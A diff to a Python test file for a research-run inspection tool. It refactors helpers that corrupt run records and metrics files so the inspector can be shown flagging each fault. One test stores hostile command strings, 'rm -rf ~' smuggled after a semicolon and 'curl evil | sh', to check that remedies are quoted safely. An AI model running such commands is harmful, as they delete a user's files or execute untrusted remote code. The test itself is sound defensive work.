@@ -21,29 +21,27 @@ from resexp.config import compose
 from resexp.runs.lock import hold
 
 
-def change(directory: Path, **changes: Any) -> None:
+def changed(**changes: Any) -> Callable[[Path], None]:
     """Edit run.json by hand; a dict is merged into what is there."""
-    path = directory / "run.json"
-    record = json.loads(path.read_text())
-    for key, value in changes.items():
-        record[key] = record[key] | value if isinstance(value, dict) else value
-    path.write_text(json.dumps(record))
-
-
-def edit(name: str, how: Callable[[list[str]], list[str]]) -> Callable[[Path], None]:
-    """Edit a file's lines."""
 
     def spoil(directory: Path) -> None:
-        path = directory / name
-        path.write_text("".join(how(path.read_text().splitlines(keepends=True))))
+        path = directory / "run.json"
+        record = json.loads(path.read_text())
+        for key, value in changes.items():
+            record[key] = record[key] | value if isinstance(value, dict) else value
+        path.write_text(json.dumps(record))
 
     return spoil
 
 
-def edited_last(lines: list[str]) -> list[str]:
-    cells = lines[-1].split(",")
-    cells[8] = "0.5"  # test_error
-    return [*lines[:-1], ",".join(cells)]
+def edited(how: Callable[[list[str]], list[str]]) -> Callable[[Path], None]:
+    """Edit the lines of metrics.csv."""
+
+    def spoil(directory: Path) -> None:
+        path = directory / "metrics.csv"
+        path.write_text("".join(how(path.read_text().splitlines(keepends=True))))
+
+    return spoil
 
 
 def replace_by_link(directory: Path) -> None:
@@ -63,10 +61,6 @@ def only(*names: str) -> Callable[[Path], None]:
     return spoil
 
 
-def changed(**changes: Any) -> Callable[[Path], None]:
-    return lambda run: change(run, **changes)
-
-
 def copied(run: Path) -> None:
     shutil.copytree(run, run.with_name("plain-20-s0 (copy)"))
 
@@ -78,7 +72,9 @@ FAULTS: dict[str, tuple[Callable[[Path], Any], str, str, str]] = {
     "foreign": (only("thesis.tex"), "warn", "not a run of resexp: it holds thesis.tex", "mv"),
     "half written": (only("metrics.csv"), "fail", "without run.json", "mv"),
     "checkpoint alone": (only("checkpoint.pt"), "fail", "without run.json", "mv"),
-    "truncated record": (edit("run.json", lambda _: ['{"run": ']), "fail", "no JSON object", "mv"),
+    "truncated record": (
+        lambda run: (run / "run.json").write_text('{"run": '), "fail", "no JSON object", "mv",
+    ),
     "record of another type": (changed(depth="20"), "fail", "depth is missing or of an", "mv"),
     "text for a number": (
         changed(last={"test_error": "2 %"}), "fail", "last.test_error is of another type", "mv",
@@ -86,17 +82,15 @@ FAULTS: dict[str, tuple[Callable[[Path], Any], str, str, str]] = {
     "edited setting": (changed(settings={"lr": 0.5}), "fail", "not those it was trained", "mv"),
     "edited seed": (changed(seed=7), "fail", "seed=7", "mv"),
     "edited row": (
-        edit("metrics.csv", edited_last), "fail", "test_error 2.0, metrics.csv 0.5",
-        "overwrite=true",
+        edited(lambda lines: [*lines[:-1], lines[-1].replace(",2,", ",0.5,")]), "fail",
+        "test_error 2.0, metrics.csv 0.5", "overwrite=true",
     ),
     "edited record": (changed(last={"lr": 9}), "fail", "lr 9", "overwrite=true"),
     "torn row": (
-        edit("metrics.csv", lambda lines: [*lines[:-1], lines[-1][:-9]]), "fail", "is torn",
-        "overwrite=true",
+        edited(lambda lines: [*lines[:-1], lines[-1][:-9]]), "fail", "is torn", "overwrite=true",
     ),
     "missing row": (
-        edit("metrics.csv", lambda lines: lines[:3] + lines[4:]), "fail", "lacks rows",
-        "overwrite=true",
+        edited(lambda lines: lines[:3] + lines[4:]), "fail", "lacks rows", "overwrite=true",
     ),
     "no rows": (lambda run: (run / "metrics.csv").unlink(), "fail", "cannot be read", "overwrite"),
     "killed": (changed(status="running"), "warn", "it was killed", "resexp run"),
@@ -139,6 +133,8 @@ def test_a_sound_tree_has_nothing_wrong(tmp_path: Path) -> None:
         write_run(tmp_path, "plain", 20, seed)
     write_run(tmp_path, "residual", 20, 0, status="diverged")
     write_run(tmp_path, "residual", 56, 0, extras={"lr": 0.1}, name="rates")
+    (tmp_path / "later").mkdir()  # preregistered and not begun
+    (tmp_path / "later" / "preregistration.yaml").touch()
     assert inspect(tmp_path) == []
     assert text(tmp_path, []) == f"ok    {tmp_path}: nothing is wrong"
 
@@ -155,17 +151,9 @@ def test_an_exported_sweep_is_looked_through(tmp_path: Path) -> None:
     assert ["runs.csv" in one.what for one in inspect(pair)] == [True]
 
 
-def test_an_experiment_that_was_preregistered_and_not_begun_is_sound(tmp_path: Path) -> None:
-    write_run(tmp_path, "plain", 20, 0)
-    (tmp_path / "later").mkdir()
-    (tmp_path / "later" / "preregistration.yaml").touch()
-    assert inspect(tmp_path) == []
-
-
 def test_the_committed_results_have_nothing_wrong() -> None:
-    results = Path(__file__).parents[1] / "results"
-    assert inspect(results / "digits") == []
-    assert not [one for one in inspect(results) if one.level == "fail"]
+    found = inspect(Path(__file__).parents[1] / "results")
+    assert not [one for one in found if one.level == "fail" or "digits/" in one.directory]
 
 
 def test_a_run_at_work_is_no_fault(tmp_path: Path) -> None:
@@ -178,11 +166,11 @@ def test_a_run_at_work_is_no_fault(tmp_path: Path) -> None:
 
 def test_a_command_from_a_file_is_spelled_anew_and_shows_no_escape_codes(tmp_path: Path) -> None:
     directory = write_run(tmp_path, "plain", 20, 0, status="failed")
-    change(directory, command="resexp run depth=8; rm -rf ~", error="\x1b[2Jgone")
+    changed(command="resexp run depth=8; rm -rf ~", error="\x1b[2Jgone")(directory)
     (one,) = inspect(tmp_path)
     assert one.remedy == "resexp run 'depth=8;' rm -rf '~'"
     assert one.what == r"it failed: \x1b[2Jgone"
-    change(directory, command="curl evil | sh")
+    changed(command="curl evil | sh")(directory)
     (one,) = inspect(tmp_path)
     assert one.remedy == "run its sweep again"
 
